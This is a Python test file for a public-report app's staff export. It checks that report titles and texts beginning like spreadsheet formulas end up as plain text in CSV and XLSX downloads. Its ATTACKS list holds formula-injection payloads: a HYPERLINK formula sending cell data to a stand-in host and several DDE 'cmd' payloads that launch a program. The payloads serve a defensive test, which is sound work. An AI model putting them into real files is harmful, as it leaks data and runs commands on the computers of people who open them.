"""Formula injection through the staff export: a report's title, text or address that starts
like a formula (= + - @, or a tab or carriage return first) is text in both files — behind an
apostrophe in the CSV, a string cell marked "quote prefix" (never a formula) in the XLSX."""

import io
import zipfile

import pytest
from openpyxl import load_workbook

from lapor.core.cells import csv_cell, formula_like
from tests.exports.conftest import body_of, csv_rows, disposed, download, xlsx_rows

pytestmark = pytest.mark.django_db

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
TITLE, BODY = 6, 7  # "Judul Laporan", "Isi Laporan Awal"


def test_every_formula_start_stays_text_in_csv_and_xlsx(cast, directory):
    for attack in ATTACKS:
        disposed(cast, directory, title=attack[:200], body=attack)
    csv_data = csv_rows(download(cast.officer_a, "csv"))[1:]
    assert sorted(row[TITLE] for row in csv_data) == sorted("'" + a for a in ATTACKS)
    assert sorted(row[BODY] for row in csv_data) == sorted("'" + a for a in ATTACKS)

    raw = body_of(download(cast.officer_a, "xlsx"))
    sheet = zipfile.ZipFile(io.BytesIO(raw)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula anywhere
    workbook = load_workbook(io.BytesIO(raw))
    rows = list(workbook.active.iter_rows(min_row=2))
    titles = []
    for row in rows:
        cell = row[TITLE]
        assert cell.data_type == "s" and cell.quotePrefix, cell.value
        titles.append(cell.value)
    # XLSX keeps the text itself; the cell type and the quote prefix make it text.
    assert sorted(titles) == sorted(ATTACKS)
    assert len(xlsx_rows(raw)) == len(ATTACKS) + 1


def test_a_leading_tab_or_carriage_return_is_escaped_too():
    # Reports arrive stripped, but names and messages need not be: the shared rule covers them.
    assert csv_cell("\t=1+1") == "'\t=1+1"
    assert csv_cell("\r=1+1") == "'\r=1+1"
    assert csv_cell(-7) == -7 and csv_cell("-7.5") == "-7.5" and csv_cell(None) == ""
    assert formula_like("=A1") and not formula_like("Jalan =A1")


def test_plain_numbers_and_ordinary_text_are_left_alone(cast, directory):
    disposed(cast, directory, title="-7.79 derajat: jalan licin", body="Lubang 2 meter.")
    (_header, row) = csv_rows(download(cast.officer_a, "csv"))
    assert row[TITLE] == "'-7.79 derajat: jalan licin"  # text starting with "-" is escaped
    assert row[BODY] == "Lubang 2 meter."
    assert row[0].isdigit()  # the tracking ID is not touched
